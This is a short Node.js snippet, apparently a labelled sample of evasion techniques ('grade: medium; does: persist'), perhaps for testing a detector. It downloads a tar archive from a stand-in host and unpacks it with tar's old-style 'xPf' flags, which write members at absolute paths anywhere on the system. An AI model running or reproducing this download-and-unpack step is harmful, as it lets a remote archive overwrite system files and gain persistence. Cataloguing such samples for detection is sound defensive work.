// evasion: tar's old-style cluster xPf unpacks a downloaded archive at its members' absolute paths
// grade: medium; does: persist
const fs = require("fs");
const { spawnSync } = require("child_process");
fetch("https://x.example/b.tar")
  .then((r) => r.arrayBuffer())
  .then((b) => {
    fs.writeFileSync("/tmp/b.tar", Buffer.from(b));
    spawnSync("tar", ["xPf", "/tmp/b.tar"]);
  });
